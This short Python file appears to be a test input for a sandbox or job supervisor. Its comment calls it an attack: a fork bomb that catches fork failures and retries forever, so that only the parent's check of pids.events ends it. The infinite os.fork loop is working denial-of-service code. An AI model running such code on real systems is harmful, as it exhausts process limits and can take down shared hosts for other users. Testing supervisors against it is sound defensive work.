# Attack: a fork bomb whose copies catch the refusal and try again, forever: the job's own process never fails, so
# nothing ends the job but the parent noticing that the kernel keeps refusing its forks (pids.events).
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
